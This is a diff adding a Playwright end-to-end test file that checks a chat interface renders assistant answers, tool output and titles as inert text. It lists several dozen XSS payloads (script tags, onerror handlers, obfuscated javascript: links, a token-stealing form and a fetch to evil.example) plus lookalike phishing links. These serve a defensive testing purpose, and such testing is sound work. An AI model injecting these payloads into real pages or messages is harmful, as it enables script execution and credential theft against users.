@@ -1,0 +1,193 @@
+"""What a model, a tool or a stranger writes stays text: nothing of it runs, loads, submits or hides where it leads."""
+
+import pytest
+from playwright.async_api import Browser, Page, expect
+from tests.e2e.page_api import PageApi
+from tests.e2e.page_kit import THREAD, opened, violations
+
+from shoal.domain.events import AssistantSaid, TextStreamed, ToolFinished, TurnFinished, TurnStarted, UserSaid
+from shoal.domain.ids import CallId
+from shoal.domain.messages import Attachment, Author, ToolCall
+
+pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("page")]
+
+ATTACKS = (
+    "<script>window.pwned = 1</script>",
+    "<img src=x onerror='window.pwned = 1'>",
+    "<svg onload='window.pwned = 1'><script>window.pwned = 1</script></svg>",
+    "<style>body { display: none }</style>",
+    "<p style='position:fixed;inset:0;background:red'>over everything</p>",
+    "<form action='https://evil.example/'><input name='token'><button>Sign in</button></form>",
+    "<iframe src='javascript:window.parent.pwned = 1'></iframe>",
+    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
+    "<object data='data:text/html,<script>window.pwned = 1</script>'></object>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
+    "<a href='javascript:window.pwned = 1'>click</a>",
+    "[click](javascript:window.pwned=1)",
+    "[click](JaVaScRiPt:window.pwned=1)",
+    "[click](java\tscript:window.pwned=1)",
+    "[click](&#106;avascript:window.pwned=1)",
+    "[click](data:text/html,<script>window.pwned=1</script>)",
+    "[click](vbscript:window.pwned=1)",
+    "[click](blob:window.pwned=1)",
+    "[click](//evil.example/x)",
+    "[click](/api/threads)",
+    "[x](https://a.example/\" onmouseover=\"window.pwned=1)",
+    "![x](https://evil.example/pixel.png)",
+    "![x\" onerror=\"window.pwned=1](https://evil.example/pixel.png)",
+    "![x](javascript:window.pwned=1)",
+    "[ref]: javascript:window.pwned=1\n\n[click][ref]",
+    "<javascript:window.pwned=1>",
+    "```html\n</code></pre><script>window.pwned = 1</script>\n```",
+    "```\" onclick=\"window.pwned=1\ncode\n```",
+    "`<img src=x onerror=window.pwned=1>`",
+    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
+    "<div id='app'></div><div id='message'></div>",
+    "<details open ontoggle='window.pwned = 1'>x</details>",
+    "<x onclick=window.pwned=1 tabindex=1 id=x></x><a href=#x>y</a>",
+)  # fmt: skip
+
+FOUND = """
+() => {
+  const log = document.querySelector(".log");
+  const own = new Set(["button", "details", "summary", "svg", "path", "rect"]);
+  const bad = [];
+  for (const element of document.querySelectorAll(".prose *, .said *, .tool-panel *, .growing *")) {
+    const name = element.localName;
+    if (["script", "style", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "img", "svg", "math",
+         "video", "audio", "template", "x", "details"].includes(name)) bad.push(name);
+    for (const { name: attribute, value } of element.attributes) {
+      if (attribute.startsWith("on") || attribute === "style" || attribute === "id" || attribute === "srcdoc") {
+        bad.push(`${name} ${attribute}=${value}`);
+      }
+    }
+  }
+  for (const link of log.querySelectorAll(".prose a")) {
+    if (!/^(https?|mailto):/.test(link.href)) bad.push(link.href);
+    if (!link.rel.includes("noopener") || link.target !== "_blank") bad.push(`unsafe ${link.outerHTML}`);
+  }
+  return bad;
+}
+"""
+
+
+async def assert_harmless(page: Page, requests: list[str], address: str) -> None:
+    """Nothing ran, nothing foreign stands in the page, nothing was asked of another host, the policy had no work."""
+    assert await page.evaluate(FOUND) == []
+    assert await page.evaluate("window.pwned") == 0
+    assert await violations(page) == []
+    assert not [url for url in requests if not url.startswith(address.partition("?")[0])]
+    assert await page.evaluate("getComputedStyle(document.body).display") == "block"
+
+
+async def test_attacks_in_an_answer_stay_text(browser: Browser, api: PageApi) -> None:
+    api.append(THREAD, UserSaid("Hello", Author("owner")))
+    for number, attack in enumerate(ATTACKS):
+        api.append(THREAD, TurnStarted("main", "demo"), f"t{number}")
+        api.append(THREAD, AssistantSaid(f"{attack}\n\nend {number}"), f"t{number}")
+        api.append(THREAD, TurnFinished("done", "", 1), f"t{number}")
+    requests: list[str] = []
+    async with opened(browser, api.address) as page:
+        page.on("request", lambda request: requests.append(request.url))
+        await page.reload()
+        await expect(page.get_by_text(f"end {len(ATTACKS) - 1}")).to_be_visible()
+        assert await page.locator(".row.assistant").count() >= 30
+        for link in await page.locator(".prose a").all():
+            await link.hover()
+        await assert_harmless(page, requests, api.address)
+
+
+@pytest.mark.parametrize("size", [1, 7])
+async def test_attacks_in_a_growing_answer_stay_text(browser: Browser, api: PageApi, size: int) -> None:
+    text = "\n\n".join(ATTACKS)
+    api.append(THREAD, UserSaid("Hello", Author("owner")))
+    api.append(THREAD, TurnStarted("main", "demo"))
+    requests: list[str] = []
+    async with opened(browser, api.address) as page:
+        page.on("request", lambda request: requests.append(request.url))
+        await api.watched(THREAD)
+        for at in range(0, len(text), size):
+            api.live(THREAD, TextStreamed(text[at : at + size]))
+        await expect(page.locator(".live")).to_contain_text("tabindex=1")
+        await assert_harmless(page, requests, api.address)
+
+
+async def test_attacks_in_names_arguments_and_output_stay_text(browser: Browser, api: PageApi) -> None:
+    attack = "<img src=x onerror='window.pwned = 1'><script>window.pwned = 1</script>"
+    api.titles[THREAD] = attack
+    note = Attachment(attack, "image/png", 3, path="/home/attachments/../../x")
+    api.append(THREAD, UserSaid(attack, Author("u", attack), attachments=(note,)))
+    api.append(THREAD, TurnStarted(attack, attack))
+    call = ToolCall(CallId(attack), attack, attack)
+    api.append(THREAD, AssistantSaid("", (call,), "tool_calls", thinking=attack))
+    api.append(THREAD, ToolFinished(call.id, attack, attack, artifact=attack, tainted_by=attack))
+    api.append(THREAD, TurnFinished("done"))
+    requests: list[str] = []
+    async with opened(browser, api.address) as page:
+        page.on("request", lambda request: requests.append(request.url))
+        await page.locator(".tool-line").click()
+        await page.locator(".end-line").click()
+        await expect(page.locator(".tool-panel")).to_contain_text("onerror")
+        assert await page.locator("img").count() == 0
+        await assert_harmless(page, requests, api.address)
+
+
+@pytest.mark.parametrize(
+    ("markdown", "shown"),
+    [
+        ("[https://bank.example](https://evil.example/x)", "https://bank.example (evil.example)"),
+        ("[bank.example](https://bank.example.evil.example)", "bank.example (bank.example.evil.example)"),
+        ("<https://bank.example@evil.example/>", "https://bank.example@evil.example/ (evil.example)"),
+        ("[the bank](https://bank.example@evil.example/)", "the bank (evil.example)"),
+        ("[owner@bank.example](mailto:thief@evil.example)", "owner@bank.example (thief@evil.example)"),
+        ("[bank.example](https://bank.example/login)", "bank.example"),
+        ("[our guide](https://bank.example/login)", "our guide"),
+        ("https://bank.example/login", "https://bank.example/login"),
+        ("![a map](https://maps.example/a.png)", "image: a map"),
+    ],
+)
+async def test_a_link_that_names_another_host_says_where_it_leads(
+    browser: Browser, api: PageApi, markdown: str, shown: str
+) -> None:
+    api.append(THREAD, AssistantSaid(markdown))
+    async with opened(browser, api.address) as page:
+        await expect(page.locator(".prose a")).to_have_text(shown)
+
+
+async def test_the_policy_blocks_what_gets_past_the_page(browser: Browser, api: PageApi) -> None:
+    """Were markup to slip through, the browser would still refuse to run or load it."""
+    api.append(THREAD, AssistantSaid("Hello"))
+    async with opened(browser, api.address) as page:
+        await expect(page.locator(".prose")).to_be_visible()
+        blocked = await page.evaluate(
+            """async (names) => {
+              const box = document.createElement("div");
+              box.innerHTML = `<img src="x:" onerror="window.pwned = 1"><img src="https://evil.example/pixel.png">
+                <p style="color: red">x</p><iframe src="https://evil.example/"></iframe>`;
+              document.body.append(box);
+              const script = document.createElement("script");
+              script.textContent = "window.pwned = 1";
+              document.body.append(script);
+              await fetch("https://evil.example/?stolen").catch(() => {});
+              const missing = () => names.filter((name) => !window.violations.some((seen) => seen.startsWith(name)));
+              while (missing().length) {
+                await new Promise((seen) => document.addEventListener("securitypolicyviolation", seen, { once: true }));
+              }
+              return window.violations.length;
+            }""",
+            ["script-src", "img-src", "style-src", "frame-src", "connect-src"],
+        )
+        assert blocked >= 5
+        assert await page.evaluate("window.pwned") == 0
+
+
+async def test_the_page_without_its_cookie_asks_for_the_token(browser: Browser, api: PageApi) -> None:
+    async with opened(browser, f"http://127.0.0.1:{api.port}/") as page:
+        await expect(page.get_by_role("heading", name="This page needs its token")).to_be_visible()
+        await page.get_by_label("Token").fill("page-test")
+        await page.get_by_role("button", name="Open").click()
+        await expect(page.get_by_label("Message")).to_be_visible()
+        assert "page-test" not in page.url
+        assert await violations(page) == []
